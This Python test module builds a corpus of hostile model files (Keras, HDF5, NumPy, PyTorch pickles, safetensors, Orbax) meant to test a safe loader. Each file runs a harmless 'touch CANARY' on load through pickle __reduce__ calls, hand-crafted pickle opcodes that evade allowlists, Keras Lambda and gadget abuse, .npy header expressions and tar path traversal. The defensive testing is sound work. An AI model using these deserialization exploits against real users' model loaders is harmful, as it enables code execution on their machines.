"""Files that try to run code, write files or open connections when they are read.

Each writes, or asks something else to write, the file `CANARY` into its own folder.
"""

import base64
import io
import json
import marshal
import pickle
import struct
import subprocess
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import h5py
import numpy as np

from tests.hostile.bundle_writer import BundleWriter, entry_bytes
from tests.hostile.corpus import Case

CANARY = "CANARY"
_OPAQUE = "opaque-data"
_VALUES = np.arange(6, dtype=np.float32)


class Call:
    """Pickles as a call of `function` with `arguments`."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self._call


def touch(folder: Path) -> str:
    """The shell command that writes the canary."""
    return f"touch {folder / CANARY}"


def system(folder: Path) -> Call:
    """Pickles as `os.system` of `touch`."""
    import os

    return Call(os.system, touch(folder))


def expression(folder: Path) -> str:
    """A Python expression that writes the canary."""
    return f"__import__('os').system('{touch(folder)}')"


# --- Keras configurations


def weights_bytes() -> bytes:
    """A sound `model.weights.h5` of Dense(3)."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        group = file.create_group("layers/dense/vars")
        group["0"] = np.arange(12, dtype="float32").reshape(4, 3)
        group["1"] = np.arange(3, dtype="float32")
    return buffer.getvalue()


def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    """The configuration of a Sequential model of `layers`, after a harmless Dense."""
    dense = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense"}}
    config = {"name": "s", "layers": [dense, *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config}


def archive(
    folder: Path,
    config: object,
    name: str = "model.keras",
    members: Mapping[str, bytes] | None = None,
) -> Path:
    """A `.keras` archive of this configuration and sound weights."""
    path = folder / name
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("metadata.json", "{}")
        file.writestr("config.json", json.dumps(config))
        file.writestr("model.weights.h5", weights_bytes())
        for member, content in (members or {}).items():
            file.writestr(member, content)
    return path


def legacy_h5(folder: Path, **attributes: str) -> Path:
    """A legacy `.h5` file with these attributes."""
    path = folder / "model.h5"
    with h5py.File(path, "w") as file:
        group = file.create_group("model_weights/dense")
        file["model_weights"].attrs["layer_names"] = [b"dense"]
        group.attrs["weight_names"] = [b"dense/kernel:0"]
        group["dense/kernel:0"] = np.ones((4, 3), "float32")
        for name, text in attributes.items():
            file.attrs[name] = text
    return path


def _lambda_source(folder: Path) -> dict[str, Any]:
    return {"class_name": "Lambda", "config": {"name": "l", "function": expression(folder)}}


def _lambda_marshalled(folder: Path) -> dict[str, Any]:
    code = marshal.dumps(compile(expression(folder), "<lambda>", "eval"))
    function = {
        "class_name": "__lambda__",
        "config": {"code": base64.b64encode(code).decode(), "defaults": None, "closure": None},
    }
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "l", "function": function},
    }


def _imports_os(folder: Path) -> dict[str, Any]:
    return {
        "module": "os",
        "class_name": "system",
        "registered_name": "os.system",
        "config": touch(folder),
        "build_config": {"input_shape": [None, 3]},
    }


def _gadget(module: str, function: str, *arguments: str) -> Callable[[Path], dict[str, Any]]:
    """A Lambda whose function is one of Keras's own, used for something else."""

    def make(folder: Path) -> dict[str, Any]:
        named = {"class_name": "function", "module": module, "config": function}
        given = [text.format(folder=folder, canary=folder / CANARY) for text in arguments]
        return {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {"name": "l", "function": named, "arguments": {"args": given}},
        }

    return make


def _of_class(package: str, name: str, /, **config: Any) -> Callable[[Path], dict[str, Any]]:
    def make(folder: Path) -> dict[str, Any]:
        filled = {
            key: value.format(folder=folder) if isinstance(value, str) else value
            for key, value in config.items()
        }
        return {"module": package, "class_name": name, "config": {"name": "evil", **filled}}

    return make


def _in_archive(layer: Callable[[Path], dict[str, Any]]) -> Callable[[Path], Path]:
    return lambda folder: archive(folder, sequential(layer(folder)))


def _in_legacy(layer: Callable[[Path], dict[str, Any]]) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        return legacy_h5(folder, model_config=json.dumps(sequential(layer(folder))))

    return make


_LAYERS: tuple[tuple[str, Callable[[Path], dict[str, Any]]], ...] = (
    ("a Lambda of source text", _lambda_source),
    ("a Lambda of marshalled code", _lambda_marshalled),
    ("a layer that is os.system", _imports_os),
    (
        "a Lambda that downloads",
        _gadget("keras.utils", "get_file", "x", "http://127.0.0.1:9/x", "{canary}"),
    ),
    (
        "a Lambda that turns safe mode off",
        _gadget("keras.config", "enable_unsafe_deserialization"),
    ),
    (
        "a Lambda that loads another model",
        _gadget("keras.saving", "load_model", "{folder}/other.keras"),
    ),
    (
        "a layer that unpickles a torch module",
        _of_class("keras.layers", "TorchModuleWrapper", module=f"{_OPAQUE}:gASV"),
    ),
    (
        "a vocabulary that is the password file",
        _of_class("keras.layers", "StringLookup", vocabulary="/etc/passwd"),
    ),
    (
        "a layer that is a SavedModel elsewhere",
        _of_class("keras.layers", "TFSMLayer", filepath="{folder}/saved"),
    ),
    (
        "an initializer that is subprocess.Popen",
        lambda folder: {
            "class_name": "Dense",
            "config": {
                "name": "d",
                "kernel_initializer": {
                    "module": "subprocess",
                    "class_name": "Popen",
                    "config": {"args": touch(folder), "shell": True},
                },
            },
        },
    ),
)


def _pickled_weights(folder: Path) -> Path:
    path = folder / "model.keras"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("metadata.json", "{}")
        file.writestr("config.json", json.dumps(sequential()))
        file.writestr("model.weights.npz", pickle.dumps(system(folder)))
    return path


def _object_weights(folder: Path) -> Path:
    """The npz that Keras writes where it lacks h5py: one object array of a dictionary."""
    buffer = io.BytesIO()
    objects = np.array({"vars": {"0": system(folder)}}, dtype=object)
    np.savez(buffer, dense=objects)
    path = folder / "model.keras"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("metadata.json", "{}")
        file.writestr("config.json", json.dumps(sequential()))
        file.writestr("model.weights.npz", buffer.getvalue())
    return path


def _program_too(folder: Path) -> Path:
    """An archive that is also a program for Python, as a zipapp is."""
    path = archive(folder, sequential(), members={"__main__.py": expression(folder).encode()})
    path.write_bytes(b"#!/usr/bin/env python3\n" + path.read_bytes())
    return path


def _plugin_filter(folder: Path) -> Path:
    """A dataset packed by a filter of which a library lies beside the file."""
    (folder / "libh5evil.so").write_bytes(b"\x7fELF" + b"\0" * 100)
    path = folder / "model.weights.h5"
    with h5py.File(path, "w") as file:
        data = np.arange(100, dtype="float32")
        made = file.create_dataset("layers/dense/vars/0", data=data, chunks=(100,), shuffle=True)
        made.attrs["plugin"] = str(folder)
    content = bytearray(path.read_bytes())
    name = content.find(b"shuffle")
    if name >= 0:
        struct.pack_into("<H", content, name - 8, 32001)
    path.write_bytes(content)
    return path


def _pickle_in_attributes(folder: Path) -> Path:
    path = folder / "model.weights.h5"
    with h5py.File(path, "w") as file:
        file["layers/dense/vars/0"] = np.ones((4, 3), "float32")
        file.attrs["custom_objects"] = np.void(pickle.dumps(system(folder)))
        file.attrs["model_config"] = json.dumps(sequential(_lambda_source(folder)))
    return path


# --- NumPy


def npy_bytes(header: bytes, data: bytes = b"", version: tuple[int, int] = (1, 0)) -> bytes:
    """An `.npy` file of this header, whatever it says."""
    width = 2 if version == (1, 0) else 4
    return b"\x93NUMPY" + bytes(version) + len(header).to_bytes(width, "little") + header + data


def _saved_array(folder: Path, array: Any) -> Path:
    path = folder / "weights.npy"
    np.save(path, array, allow_pickle=True)
    return path


def _object_array(folder: Path) -> Path:
    return _saved_array(folder, np.array([system(folder)], dtype=object))


def _structured_objects(folder: Path) -> Path:
    array = np.zeros(1, dtype=[("x", "f4"), ("y", object)])
    array["y"][0] = system(folder)
    return _saved_array(folder, array)


def _npz(folder: Path, **members: bytes) -> Path:
    path = folder / "weights.npz"
    with zipfile.ZipFile(path, "w") as file:
        for name, content in members.items():
            file.writestr(name, content)
    return path


def _npy(array: Any) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def _one_of_two(folder: Path) -> Path:
    objects = np.array([system(folder)], dtype=object)
    return _npz(folder, **{"good.npy": _npy(_VALUES), "evil.npy": _npy(objects)})


def _raw_pickle_member(folder: Path) -> Path:
    return _npz(folder, **{"good.npy": _npy(_VALUES), "evil.npy": pickle.dumps(system(folder))})


def _header_expression(folder: Path) -> Path:
    path = folder / "weights.npy"
    header = f"{{'descr': {expression(folder)}, 'fortran_order': False, 'shape': (1,)}}\n"
    path.write_bytes(npy_bytes(header.encode(), b"\0" * 8))
    return path


def _header_shape_expression(folder: Path) -> Path:
    path = folder / "weights.npy"
    header = f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({expression(folder)},)}}\n"
    path.write_bytes(npy_bytes(header.encode(), b"\0" * 8))
    return path


# --- PyTorch


def torch_zip(
    folder: Path, pickled: bytes, name: str = "model.pt", members: Mapping[str, bytes] | None = None
) -> Path:
    """A file as `torch.save` writes it, with this `data.pkl`."""
    path = folder / name
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("model/data.pkl", pickled)
        file.writestr("model/byteorder", "little")
        file.writestr("model/version", "3\n")
        file.writestr("model/data/0", _VALUES.tobytes())
        for member, content in (members or {}).items():
            file.writestr(member, content)
    return path


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _text(text: str) -> bytes:
    data = text.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def _by_eval(folder: Path) -> bytes:
    return b"\x80\x02" + _global("builtins", "eval") + _text(expression(folder)) + b"\x85R."


def _by_inst(folder: Path) -> bytes:
    return b"(S'" + touch(folder).encode() + b"'\nios\nsystem\n."


def _by_stack_global(folder: Path) -> bytes:
    return b"\x80\x04" + _text("os") + _text("system") + b"\x93" + _text(touch(folder)) + b"\x85R."


def _by_attribute(folder: Path) -> bytes:
    """A dotted name that starts at something allowed (bpo-18023)."""
    return (
        b"\x80\x04" + _text("torch._utils") + _text("_rebuild_tensor_v2.__globals__") + b"\x93"
        + _text(touch(folder)) + b"\x85R."
    )  # fmt: skip


def _by_build(folder: Path) -> bytes:
    """An allowed object given a `__setstate__`, which a later BUILD calls."""
    return (
        b"\x80\x02" + _global("collections", "OrderedDict") + b")R}"
        + _text("__setstate__") + _global("os", "system") + b"sb" + _text(touch(folder)) + b"b."
    )  # fmt: skip


def _by_persistent_id(folder: Path) -> bytes:
    return b"\x80\x02" + _text("storage") + _global("os", "system") + b"\x86" + b"Q."


def _by_newobj(folder: Path) -> bytes:
    return (
        b"\x80\x02" + _global("subprocess", "Popen") + _text(touch(folder)) + b"\x85\x81."
    )  # fmt: skip


def _by_memo(folder: Path) -> bytes:
    """The dangerous name is fetched first and used only later, from the memo."""
    return (
        b"\x80\x02" + _global("posix", "system") + b"q\x000" + b"h\x00" + _text(touch(folder))
        + b"\x85R."
    )  # fmt: skip


def _by_numpy(folder: Path) -> bytes:
    inner = pickle.dumps(system(folder), 2)
    return (
        b"\x80\x03" + _global("numpy.core.multiarray", "_reconstruct") + _global("pickle", "loads")
        + b"C" + bytes([len(inner)]) + inner + b"\x85R\x85R."
    )  # fmt: skip


def _by_extension(folder: Path) -> bytes:
    return b"\x80\x02\x82\x01" + _text(touch(folder)) + b"\x85R."


def _torch_load(folder: Path) -> bytes:
    return b"\x80\x02" + _global("torch", "load") + _text(str(folder / "other.pt")) + b"\x85R."


def _lightning(folder: Path) -> Path:
    state = {"state_dict": {}, "callbacks": {"x": Call(subprocess.Popen, touch(folder))}}
    return torch_zip(folder, pickle.dumps(state, 2), "model.ckpt")


def _torchscript(folder: Path) -> Path:
    code = {
        "model/code/__torch__.py": f"def forward(self):\n  {expression(folder)}\n".encode(),
        "model/constants.pkl": pickle.dumps(system(folder), 2),
    }
    return torch_zip(folder, pickle.dumps({}, 2), members=code)


def _bare_pickle(name: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(pickle.dumps({"weight": system(folder)}, 2))
        return path

    return make


def _tar(folder: Path) -> Path:
    path = folder / "model.pth"
    with tarfile.open(path, "w") as file:
        for name in ("pickle", "tensors", "storages", f"../{CANARY}"):
            content = pickle.dumps(system(folder), 2)
            info = tarfile.TarInfo(name)
            info.size = len(content)
            file.addfile(info, io.BytesIO(content))
    return path


def _distributed(folder: Path) -> Path:
    (folder / ".metadata").write_bytes(pickle.dumps(system(folder), 4))
    (folder / "__0_0.distcp").write_bytes(_VALUES.tobytes())
    return folder


_PICKLES: tuple[tuple[str, Callable[[Path], bytes]], ...] = (
    ("a torch pickle of os.system", lambda folder: pickle.dumps({"w": system(folder)}, 2)),
    ("a torch pickle of eval", _by_eval),
    ("a torch pickle with an old INST", _by_inst),
    ("a torch pickle with names from the stack", _by_stack_global),
    ("a torch pickle with a dotted name", _by_attribute),
    ("a torch pickle that gives a dictionary a setstate", _by_build),
    ("a torch pickle whose storage is os.system", _by_persistent_id),
    ("a torch pickle of a new Popen", _by_newobj),
    ("a torch pickle that hides a name in its memo", _by_memo),
    ("a torch pickle of NumPy that unpickles", _by_numpy),
    ("a torch pickle of an extension code", _by_extension),
    ("a torch pickle that loads another file", _torch_load),
)


# --- the rest


def _variant_and_pickled_string(folder: Path) -> Path:
    writer = BundleWriter()
    writer.add("good", _VALUES)
    writer.add_string("state", pickle.dumps(system(folder)))
    content = pickle.dumps(system(folder))
    writer.entries[b"variant"] = entry_bytes(dtype=21, offset=len(writer.data), size=len(content))
    writer.data += content
    return Path(writer.write(folder / "ckpt"))


def safetensors_bytes(header: object, data: bytes = b"") -> bytes:
    """A safetensors file of this header, whatever it says."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + data


def _safetensors_metadata(folder: Path) -> Path:
    header = {
        "__metadata__": {"format": "pt", "pickle": base64.b64encode(
            pickle.dumps(system(folder))).decode(), "class": expression(folder)},
        "w": {"dtype": "F32", "shape": [6], "data_offsets": [0, 24]},
    }  # fmt: skip
    path = folder / "model.safetensors"
    path.write_bytes(safetensors_bytes(header, _VALUES.tobytes()))
    return path


def _orbax(folder: Path) -> Path:
    """A checkpoint of JAX whose metadata names a class, and whose store is a web address."""
    (folder / "_METADATA").write_text(
        json.dumps({
            "tree_metadata": {"('w',)": {"value_metadata": {"value_type": "os.system"}}},
            "use_ocdbt": False,
            "custom": expression(folder),
        })
    )  # fmt: skip
    (folder / "_CHECKPOINT_METADATA").write_text('{"item_handlers": "os.system"}')
    (folder / "w").mkdir()
    (folder / "w" / ".zarray").write_text(
        json.dumps({
            "zarr_format": 2, "shape": [6], "chunks": [6], "dtype": "<f4", "order": "C",
            "compressor": None, "fill_value": None, "filters": None,
            "kvstore": {"driver": "http", "base_url": "http://127.0.0.1:9/"},
        })
    )  # fmt: skip
    return folder


CODE: tuple[Case, ...] = (
    *(Case(f"{story} in .keras", _in_archive(layer), "whole") for story, layer in _LAYERS),
    *(Case(f"{story} in .h5", _in_legacy(layer), "whole") for story, layer in _LAYERS[:4]),
    Case("a .keras of pickled weights", _pickled_weights, "refused", "pickle"),
    Case("a .keras of weights as objects", _object_weights, None, "pickle"),
    Case("a .keras that is a program too", _program_too, "whole"),
    Case(
        "a .keras with a pickle beside its weights",
        lambda folder: archive(
            folder, sequential(), members={"model.weights.npz": pickle.dumps(system(folder))}
        ),
        "whole",
    ),
    Case("a filter whose library lies beside the file", _plugin_filter, "partly"),
    Case("a pickle in an attribute of .h5", _pickle_in_attributes, "whole"),
    Case("an .npy of objects", _object_array, "partly", "Python objects"),
    Case("an .npy of records with objects", _structured_objects, "partly", "fields"),
    Case("an .npy whose type is an expression", _header_expression, "refused", ""),
    Case("an .npy whose shape is an expression", _header_shape_expression, "refused", ""),
    Case("an .npz with one array of objects", _one_of_two, "partly", ""),
    Case("an .npz with a bare pickle", _raw_pickle_member, "partly", ""),
    *(
        Case(story, lambda folder, make=make: torch_zip(folder, make(folder)), "refused")  # type: ignore[misc]
        for story, make in _PICKLES
    ),
    Case("a lightning checkpoint with a callback", _lightning, "refused", ""),
    Case("a torchscript archive", _torchscript, "refused", ""),
    Case("a bare pickle called .pth", _bare_pickle("model.pth"), "refused", ""),
    Case("a bare pickle called .bin", _bare_pickle("pytorch_model.bin"), "refused", ""),
    Case("a tar that unpickles and climbs", _tar, "refused", ""),
    Case("a distributed checkpoint of os.system", _distributed, "refused", ""),
    Case("a variant and a pickle in a checkpoint", _variant_and_pickled_string, "whole"),
    Case("a safetensors file with code in its metadata", _safetensors_metadata, "whole"),
    Case("an orbax checkpoint that names a class and a web address", _orbax, "refused", ""),
)
